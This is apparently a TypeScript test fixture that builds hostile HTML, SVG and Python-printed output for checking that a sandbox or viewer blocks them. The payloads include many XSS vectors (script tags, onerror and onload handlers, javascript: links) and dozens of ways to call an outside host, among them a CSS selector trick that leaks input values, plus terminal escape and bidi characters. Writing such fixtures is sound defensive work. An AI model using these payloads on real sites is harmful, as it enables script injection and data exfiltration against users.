/** What a program shows that wants more than to be read. */

/** Each of them reaches elsewhere, or runs, where nothing keeps it from that. */
export function hostileHtml(elsewhere: string): string {
  return `<p id="shown">hostile</p>
<link rel="preconnect" href="${elsewhere}"><link rel="dns-prefetch" href="${elsewhere}"><link rel="stylesheet" href="${elsewhere}/style">
<base href="${elsewhere}/base/">
<script>alert('script'); top.location = '${elsewhere}/top'; fetch('${elsewhere}/fetch');</script>
<script src="${elsewhere}/script"></script>
<img src="${elsewhere}/img" onerror="alert('img')"><img src="x:" onerror="alert('x')">
<iframe src="${elsewhere}/iframe"></iframe><iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
<object data="${elsewhere}/object"></object><video src="${elsewhere}/video" autoplay></video>
<style>@import url(${elsewhere}/import); body { background: url(${elsewhere}/background) }</style>
<form id="form" action="${elsewhere}/form"><button id="send">send</button></form>
<a id="self" href="${elsewhere}/self">self</a> <a id="top" target="_top" href="${elsewhere}/top">top</a>
<a id="blank" target="_blank" href="${elsewhere}/blank">blank</a> <a id="script" href="javascript:alert('link')">script</a>
${moreHtml(elsewhere)}
<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">`;
}

/** Ways that are less known, behind which browsers often look before any policy. */
function moreHtml(elsewhere: string): string {
  return `<noscript><link rel="prefetch" href="${elsewhere}/prefetch"></noscript>
<div><template shadowrootmode="open"><link rel="stylesheet" href="${elsewhere}/shadow"><img src="${elsewhere}/shadow-img"></template></div>
<script type="speculationrules">{"prerender":[{"source":"list","urls":["${elsewhere}/prerender"]}]}</script>
<script type="importmap">{"imports":{"a":"${elsewhere}/import-map"}}</script><link rel="modulepreload" href="${elsewhere}/module">
<picture><source srcset="${elsewhere}/srcset"><img srcset="${elsewhere}/srcset 2x" attributionsrc="${elsewhere}/attribution"></picture>
<video poster="${elsewhere}/poster"><track src="${elsewhere}/track" default></video><audio src="${elsewhere}/audio" autoplay></audio>
<input type="image" src="${elsewhere}/input"><table background="${elsewhere}/table"><tr><td>cell</td></tr></table>
<style>@font-face { font-family: x; src: url(${elsewhere}/font) } p { font-family: x; list-style-image: image-set("${elsewhere}/set" 1x) }
input[value^="a"] { background: url(${elsewhere}/guessed) } @namespace url(${elsewhere}/namespace);</style><input value="abc">
<svg onload="alert('svg onload')"><use href="${elsewhere}/use#x"/><image href="${elsewhere}/image"/><feImage href="${elsewhere}/fe"/>
<a id="svg-link"><animate attributeName="href" values="javascript:alert('animate')"/><text y="20">animate</text></a></svg>
<math><mtext href="${elsewhere}/math">math</mtext></math><details open ontoggle="alert('toggle')"><summary>x</summary></details>
<form action="${elsewhere}/form-top" target="_top"><button formaction="${elsewhere}/formaction">x</button></form>
<a ping="${elsewhere}/ping" href="#shown">ping</a><embed src="${elsewhere}/embed"><LiNk/rel=preconnect href=${elsewhere}>`;
}

export function hostileSvg(elsewhere: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300000000" height="200000000" onload="alert('svg')">
<script>alert('svg script')</script><image href="${elsewhere}/svg-image" width="10" height="10"/>
<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${elsewhere}/svg-img"/><script>alert('foreign')</script></body></foreignObject>
<a xlink:href="javascript:alert('svg link')"><rect width="300000000" height="200000000" fill="teal"/></a></svg>`;
}

/** A program that prints this, as Python, once there is a file `go`; the hash signs say that it ran to its end. */
export function printsHostile(elsewhere: string): string {
  return `import os, sys, time
print("ready")
while not os.path.exists('go'): time.sleep(0.05)
print("<script>alert('out')</script></pre></div><img src='${elsewhere}/out' onerror='alert(1)'>")
print("<a href='javascript:alert(2)'>click</a> javascript:alert(3)")
print("\\x1b]0;title\\x07\\x1b[2J\\x1b[31mred \\u202eevil\\u202c \\u2028 \\u200b\\r\\n")
print("</script><svg onload=alert(4)>", file=sys.stderr)
print("###")`;
}
